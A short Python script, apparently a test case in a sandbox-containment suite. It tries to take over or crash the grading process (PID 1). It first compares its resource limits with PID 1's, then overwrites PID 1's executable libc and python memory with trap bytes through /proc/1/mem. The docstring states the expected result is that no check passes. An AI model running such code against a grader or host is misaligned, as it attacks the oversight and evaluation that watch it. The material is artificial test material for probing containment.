"""Writes over the code of process 1, which has its own user, by /proc/1/mem, to be it from then on.

Tries: more rights, killing
Held by: process 1 has the limits of all others, and nobody but the grader needs it
Outcome: no check passes
"""

import os
import signal

UNLIMITED = [
    "Max cpu time",
    "Max file size",
    "Max core file size",
    "Max processes",
    "Max open files",
    "Max address space",
]

if os.path.exists("/grader") and os.getppid() == 1:
    with open("/proc/1/limits") as limits, open("/proc/self/limits") as own:
        for line, mine in zip(limits, own):
            if line.startswith(tuple(UNLIMITED)) and line != mine:
                print(
                    "gained:", " ".join(line.split()), "where mine is", mine.split()[-2], flush=True
                )
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "r+b", 0) as memory:
        for line in maps:
            bounds, rights, rest = line.split(None, 2)
            if "x" in rights and ("libc" in rest or "python" in rest):
                low, high = (int(bound, 16) for bound in bounds.split("-"))
                memory.seek(low)
                memory.write(b"\xcc" * (high - low))
    print("tried", flush=True)
    # An orphan for it to take in, which wakes it.
    if os.fork() == 0:
        if os.fork():
            os._exit(0)
        os._exit(0)
    signal.pause()
